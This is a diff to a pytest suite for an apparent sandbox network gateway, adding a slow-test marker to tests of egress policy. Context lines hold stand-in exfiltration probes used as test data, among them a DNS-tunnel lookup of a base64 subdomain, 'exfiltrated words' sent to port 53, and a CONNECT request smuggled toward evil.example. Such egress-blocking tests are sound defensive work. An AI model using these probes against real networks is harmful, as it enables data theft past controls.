@@ -28,6 +28,7 @@ def test_allowed_hosts_are_reached_by_name_and_others_are_not(dsec, world):
     assert {record["at"] for record in world.seen("http") + world.seen("hello")} <= {"11.0.0.10", "11.0.0.14", "2a00:1::6"}
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_names_that_are_not_allowed_never_leave_the_host(dsec, world):
     box = Box(dsec, "--allow", "good.example")
     assert box.py("print(look_up('c2VjcmV0.tunnel.example'), look_up('good.example') != 'no')") == "no True"
@@ -47,6 +48,7 @@ print(udp("11.0.0.53", 53, b"exfiltrated words"), tcp("11.0.0.53", 53, b"\\0\\5w
     assert "c2vjcmv0.tunnel.example" in {record["host"] for record in denied}
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_an_address_alone_needs_a_rule_of_its_own(dsec, world):
     box = Box(dsec, "--allow", "good.example", "--allow", "11.0.0.20:9000")
     lines = box.py("""
@@ -90,6 +92,7 @@ c = socket.socket(socket.AF_INET6); c.connect(s[0][4]); c.sendall(b"GET / HTTP/1
     assert lines == ["True reset reset", "dual.example", "b'SSH-2.0-2a00:1::20\\r\\n'", "2a00:1::20 six nothing", "b'HTTP/1.1 '"]
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_what_the_first_bytes_name_must_be_allowed_too(dsec, world):
     box = Box(dsec, "--allow", "good.example", "--allow", "other.example", "--allow", "11.0.0.20")
     lines = box.py("""
@@ -109,6 +112,7 @@ print(status(tcp("good.example", 80, b"CONNECT evil.example:443 HTTP/1.1\\r\\nHo
     assert "evil.example" not in {record.get("host") for record in world.seen("http")}
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_strict_mode_takes_only_what_shows_whom_it_is_for(dsec, world):
     box = Box(dsec, "--allow", "good.example:*", "--allow", "other.example")
     dsec.ok("net", "set", box.id, "--strict")
@@ -123,6 +127,7 @@ print(tcp("good.example", 9000, b"neither\\n"), status(http("good.example", "goo
     assert any("encrypted" in record["reason"] for record in box.log("--denied"))
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_a_redirect_to_a_denied_host_ends_there(dsec, world):
     box = Box(dsec, "--allow", "good.example", "--allow", "11.0.0.10")
     wget = ["exec", box.id, "--", "env", "-u", "http_proxy", "wget", "-qO-"]
@@ -211,6 +216,7 @@ except ConnectionResetError: print("cut")
     assert going.communicate(timeout=10)[0].endswith(b"cut\n")
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_phases_switch_policies(dsec, world):
     (dsec.cwd / "dsec.yaml").write_text("""version: 1
 environments:
@@ -245,6 +251,7 @@ except ConnectionResetError: print("reset")
     assert eventually(lambda: box.show()["connections"] == 0)
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_bytes_have_a_limit(dsec, world):
     (dsec.cwd / "dsec.yaml").write_text("""version: 1
 environments:
@@ -326,6 +333,7 @@ environments:
     assert "NOT_THERE" in dsec.fails(125, "run", "demo", "--", "true")
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_build_steps_may_have_a_policy(dsec, world):
     (dsec.cwd / "dsec.yaml").write_text("""version: 1
 layers:
@@ -340,6 +348,7 @@ layers:
     assert {record["at"] for record in world.seen("http")} == {"11.0.0.10"}
 
 
+@pytest.mark.guest_slow("the gateway decides alike on any kernel")
 def test_truncated_answers_are_asked_for_again_over_tcp(dsec, world):
     box = Box(dsec, "--allow", "large.example")
     assert box.py("print(body(http('large.example', 'large.example')))") == "11.0.0.13 large.example"
